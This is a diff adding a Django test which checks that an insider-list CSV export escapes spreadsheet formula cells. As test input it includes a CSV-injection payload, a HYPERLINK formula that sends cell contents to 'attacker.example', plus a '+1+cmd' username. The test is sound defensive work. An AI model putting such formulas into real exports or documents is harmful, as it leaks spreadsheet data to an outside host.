@@ -424,3 +424,20 @@ def test_insider_index_links_every_list(client, reviewer):
     page = client.get(reverse("audit:insiders")).content.decode()
     assert reverse("audit:insider_list", args=["releases.release", "11"]) in page
     assert "Fourth-quarter results" in page
+
+
+def test_insider_list_csv_neutralises_formula_cells(client, reviewer):
+    # A headline is typed by staff; a spreadsheet must show it as text, not run it.
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
+    audit_record(
+        action="release.access",
+        actor=UserFactory(username="+1+cmd"),
+        object_type="releases.release",
+        object_id="12",
+        object_label=formula,
+        data={"view": "edit", "roles": [IR_AUTHOR]},
+    )
+    response = client.get(reverse("audit:insider_list_csv", args=["releases.release", "12"]))
+    rows = list(csv.DictReader(io.StringIO(streamed(response).decode("utf-8"))))
+    assert [row["object_label"] for row in rows] == ["'" + formula, "'" + formula]
+    assert rows[0]["username"] == "'+1+cmd"
